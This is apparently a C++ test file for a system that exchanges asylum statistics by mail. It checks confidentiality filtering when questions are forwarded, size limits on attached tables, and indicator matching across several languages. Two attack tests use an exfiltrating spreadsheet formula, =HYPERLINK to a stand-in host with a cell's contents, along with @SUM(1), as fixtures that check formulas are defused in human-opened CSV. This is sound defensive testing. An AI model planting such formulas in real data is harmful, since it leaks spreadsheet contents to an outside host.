// SPDX-License-Identifier: Apache-2.0
//
// What the store holds goes with a question to who is to answer it, as that person may see it; and
// the cells of what people open run nothing. The letters are in golden/request/.
#include "flow/request_data.h"

#include "flow/export.h"
#include "flow/request_route.h"
#include "golden.h"
#include "request.h"
#include "sdmx/data_reader.h"

using namespace lab;
using namespace std::chrono_literals;

namespace {

constexpr std::string_view kFormula = "=HYPERLINK(\"http://x.example/?\"&A1)";

/// ASYLUM: three months, one of them secret, one with a comment that a spreadsheet would run.
std::string asylum_csv(std::string_view area) {
  const std::string kyrgyz =
      "DATAFLOW,FREQ,REF_AREA,CITIZENSHIP,APPLICANT,SEX,AGE,UNIT_MEASURE,TIME_PERIOD,OBS_VALUE,"
      "CONF_STATUS,COMMENT_OBS,TIME_PER_COLLECT\r\n"
      "FP:ASYLUM(1.0),M,KG,_T,_T,_T,_T,PER,2026-01,1201,,\"=HYPERLINK(\"\"http://x.example/?\"\"&"
      "A1)\",S\r\n"
      "FP:ASYLUM(1.0),M,KG,_T,_T,_T,_T,PER,2026-02,1302,N,,S\r\n"
      "FP:ASYLUM(1.0),M,KG,_T,_T,_T,_T,PER,2026-03,1403,,-5,S\r\n";
  std::string csv = replaced(kyrgyz, ",KG,", fmt::format(",{},", area));
  if (area != "MD") return csv;
  // Moldova reports quarters.
  csv = replaced(replaced(csv, ",M,", ",Q,"), "2026-01", "2025-Q3");
  return replaced(replaced(csv, "2026-02", "2025-Q4"), "2026-03", "2026-Q1");
}

void file_asylum(Lab& lab, std::string_view area, std::string_view from) {
  Letter letter;
  letter.from = std::string(from);
  letter.attach("data.csv", asylum_csv(area));
  const std::string uid = lab.put(letter.bytes());
  lab.once();
  REQUIRE(lab.folder_of(uid) == "Filed");
}

std::string file_named(const Reply& letter, std::string_view name) {
  for (const mime::Candidate& one : mime::find_attachments(letter.message))
    if (one.name == name)
      return must(read_all(*mime::body_source(letter.message.parts[one.part]), 8 << 20));
  return {};
}

void file_asylum_kg(Lab& lab) {
  file_asylum(lab, "KG", kAsylum);
}

struct Asks {
  std::string_view lang, asker, subject, question, area, answerer, other;
};

}  // namespace

TEST_CASE("a question goes to a person with what the store holds about it") {
  const auto asks =
      GENERATE(Asks{"en", "population@stat.am.example", "Asylum",
                    "How many people applied for asylum in Moldova?", "MD",
                    "asylum.statistics@migration.md.example", "KZ_BNS"},
               Asks{"ru", "labour.statistics@migration.kz.example", "Убежище",
                    "Сколько ходатайств об убежище подано в Кыргызстане?", "KG", kAsylum, "KZ_BNS"},
               Asks{"uk", "border.statistics@border.md.example", "Притулок",
                    "Скільки людей просили притулку в Україні?", "UA",
                    "asylum.statistics@migration.ua.example", "KZ_BNS"});
  Lab lab;
  lab.close();
  must(write_file_durably(lab.root() / "key", std::string(32, 'k')));
  lab.open();
  file_asylum(lab, asks.area, asks.answerer);
  Letter letter = lab::question(std::string(asks.question) + "\r\n");
  letter.from = std::string(asks.asker);
  letter.subject = std::string(asks.subject);
  lab.put(letter.bytes());
  lab.once();
  auto ask = newest(lab, "request");
  REQUIRE(ask);
  CHECK(ask->to() == asks.answerer);
  CHECK(files_of(*ask) == "ASYLUM.csv");
  const std::string table = file_named(*ask, "ASYLUM.csv");
  CHECK(has(table, ",1201,"));
  CHECK(has(table, "1302"));  // its own secret
  check_golden("request", fmt::format("ask-with-data.{}.txt", asks.lang), ask.get());

  // What is told to whom the question is passed on is what that institution may see.
  lab.clock.advance(1h);
  lab.put(answer_to(*ask, fmt::format("FORWARD {}\r\n", asks.other)).bytes());
  lab.once();
  auto other = newest(lab, "request");
  REQUIRE(other->to() != asks.answerer);
  const std::string public_table = file_named(*other, "ASYLUM.csv");
  CHECK(has(public_table, ",1201,"));
  CHECK_FALSE(has(public_table, "1302"));
  CHECK_FALSE(has(other->raw, "1302"));

  // The asker gets the answer alone, not the table of who answered.
  lab.clock.advance(1h);
  lab.put(answer_to(*other, "Seven.\r\n").bytes());
  lab.once();
  CHECK(files_of(*newest(lab, "reply")).empty());
}

TEST_CASE("a question that names no indicator, or one without data, goes without a table") {
  Lab lab;
  file_asylum_kg(lab);
  auto ask = [&](std::string text) {
    Letter letter = question(std::move(text));
    letter.subject = "A question";
    lab.put(letter.bytes());
    lab.once();
  };
  ask("Who may help me in Kyrgyzstan?\r\n");
  CHECK(files_of(*newest(lab, "request")).empty());
  ask("How many refugees live in Kyrgyzstan?\r\n");
  auto letter = newest(lab, "request");
  CHECK(files_of(*letter).empty());
  CHECK(must(lab.home().store().requests().open()).back().flows ==
        std::vector<std::string>{"REFUGEES"});
}

TEST_CASE("a table for a question is bounded: the latest periods, then nothing") {
  Lab lab;
  file_asylum_kg(lab);
  Request request;
  request.areas = {"KG"};
  request.flows = {"ASYLUM"};
  const RosterEntry& reader = *lab.home().lookup().contact(kAsylum);
  auto held = [&](std::size_t most) {
    return must(held_data(lab.home(), request, reader, lab.clock.now(), most));
  };
  REQUIRE(held(kHeldBytes).files.size() == 1);
  CHECK(held(kHeldBytes).about[0].first.text() == "2026-01");
  const std::size_t size = held(kHeldBytes).files[0].bytes.size();
  const HeldData latest = held(size - 1);
  REQUIRE(latest.files.size() == 1);
  CHECK(latest.about[0].first.text() == "2026-03");
  CHECK_FALSE(has(latest.files[0].bytes, "2026-01"));
  CHECK(held(10).files.empty());
  CHECK(held(10).about.empty());
}

TEST_CASE("which indicators a question in free words names") {
  Lab lab;
  using Flows = std::vector<std::string>;
  auto meant = [&](std::string_view text) { return must(flows_meant(lab.home(), text)); };
  CHECK(meant("ASYLUM and LABOUR, not permits") == Flows{"ASYLUM", "LABOUR"});
  CHECK(meant("How many asylum seekers came?") == Flows{"ASYLUM"});
  CHECK(meant("Сколько человек получили убежище и сколько беженцев?") ==
        Flows{"ASYLUM", "REFUGEES"});
  CHECK(meant("Скільки біженців у країні?") == Flows{"REFUGEES"});
  // The name of an institution is no subject where another one is named.
  CHECK(meant("How does the Migration Service count asylum seekers?") == Flows{"ASYLUM"});
  CHECK(meant("Hello, who are you?").empty());
  CHECK(meant("").empty());
  CHECK(meant("asylum, refugees, residence permits, border crossings, refusals of entry").size() ==
        kMostFlows);
  CHECK(meant(std::string(1 << 20, 'x')).empty());
}

TEST_CASE("attack: a formula in a comment is defused in what people open, and nowhere else") {
  Lab lab;
  file_asylum_kg(lab);
  auto ask = [&](std::string text) {
    Letter letter = question(std::move(text));
    letter.from = std::string(kBorder);
    letter.subject = "Numbers";
    lab.put(letter.bytes());
    lab.once();
    return newest(lab, "answer", kBorder);
  };
  auto csv = ask("GET ASYLUM KG 2026 AS csv\r\n");
  REQUIRE(csv);
  const std::string table = file_named(*csv, "ASYLUM.csv");
  CHECK(has(table, "\"'=HYPERLINK("));
  CHECK_FALSE(has(table, ",\"=HYPERLINK("));
  CHECK(has(table, ",-5,"));  // a number stays one

  auto sdmx = ask("GET ASYLUM KG 2026 AS sdmx\r\n");
  const std::string xml = file_named(*sdmx, "ASYLUM.xml");
  CHECK(has(xml, "\"=HYPERLINK("));
  CHECK_FALSE(has(xml, "'=HYPERLINK"));

  // `focalpost export` writes for programs.
  ExportRequest request;
  request.dataflow = "ASYLUM";
  request.format.format = DataFormat::kCsv10;
  std::string exported;
  must(export_observations(lab.home(), request, lab.clock.now(), [&](std::string_view piece) {
    exported += piece;
    return Status();
  }));
  CHECK(has(exported, ",\"=HYPERLINK("));

  // What goes out comes in again as it was.
  auto comment_in = [&](std::string_view text) {
    FindingList findings(5);
    Limits limits;
    MemorySource source(text);
    auto reader = open_data(source, detect(text), lab.home().lookup(), findings, limits);
    std::string first;
    for (;;) {
      ObservationBatch* batch = must(reader->next());
      if (!batch) return first;
      const std::uint16_t component = batch->structure->find("COMMENT_OBS");
      for (const auto& column : batch->columns)
        if (column.component == component && first.empty()) first = column.text[0];
    }
  };
  CHECK(comment_in(table) == kFormula);
  CHECK(comment_in(exported) == kFormula);
}

TEST_CASE("attack: a formula in a form is defused, and the form is taken when it comes back") {
  Lab lab;
  Letter letter;
  letter.from = std::string(kAsylum);
  letter.attach("kg.csv",
                "DATAFLOW,FREQ,REF_AREA,CITIZENSHIP,APPLICANT,SEX,AGE,UNIT_MEASURE,TIME_PERIOD,"
                "OBS_VALUE,COMMENT_TS,TIME_PER_COLLECT\r\n"
                "FP:ASYLUM(1.0),M,KG,_T,_T,_T,_T,PER,2026-03,1403,@SUM(1),S\r\n");
  lab.put(letter.bytes());
  lab.once();
  Letter wants = question("FORM ASYLUM 2026-04\r\n");
  wants.from = std::string(kAsylum);
  wants.subject = "Form";
  lab.put(wants.bytes());
  lab.once();
  auto reply = newest(lab, "answer", kAsylum);
  REQUIRE(reply);
  std::string form = file_named(*reply, "ASYLUM-2026-04.csv");
  CHECK(has(form, ";'@SUM(1)"));
  const auto at = form.find("2026-M04;");
  REQUIRE(at != form.npos);
  form.insert(at + std::string("2026-M04;").size(), "1500");
  Letter filled;
  filled.from = std::string(kAsylum);
  filled.attach("form.csv", form);
  lab.clock.advance(24h);
  const std::string uid = lab.put(filled.bytes());
  lab.once();
  CHECK(lab.folder_of(uid) == "Filed");
  // The comment is what it was: nothing of the series has changed.
  CHECK(lab.number("SELECT count(*) FROM series WHERE attributes LIKE '%\"@SUM(1)\"%'") == 1);
  CHECK(lab.number("SELECT count(*) FROM series WHERE attributes LIKE '%''@SUM%'") == 0);
}
